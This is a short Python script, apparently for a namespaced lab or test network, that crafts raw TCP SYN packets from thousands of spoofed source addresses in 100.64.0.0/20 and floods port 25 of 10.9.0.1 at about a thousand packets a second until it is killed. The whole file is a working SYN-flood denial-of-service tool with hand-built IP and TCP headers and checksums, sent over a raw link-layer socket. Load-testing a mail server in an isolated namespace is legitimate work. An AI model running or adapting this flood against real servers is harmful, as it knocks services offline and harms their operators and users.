"""SYNs of 4,096 clients (100.64.0.0/20) to port 25 of 10.9.0.1, some thousand a second, until it is killed.

usage: synflood.py MAC, of the server's end of the link; in the client's namespace.
"""
import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source, port):
    to = socket.inet_aton("10.9.0.1")
    tcp = struct.pack("!HHIIBBHHH", port, 25, 1, 0, 5 << 4, 2, 1024, 0, 0)
    tcp_sum = checksum(struct.pack("!4s4sBBH", source, to, 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", tcp_sum) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 1, 0, 64, 6, 0, source, to)
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + tcp


link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
link.bind(("mail0", 0x800))
with open("/sys/class/net/mail0/address", encoding="ascii") as file:
    ethernet = bytes.fromhex((sys.argv[1] + file.read().strip()).replace(":", "")) + b"\x08\0"
while True:
    for _ in range(20):
        client = struct.pack("!I", 0x64400000 + random.randrange(1 << 12))
        link.send(ethernet + syn(client, random.randrange(1024, 65536)))
    time.sleep(0.01)  # not a wait: how hard the server is flooded
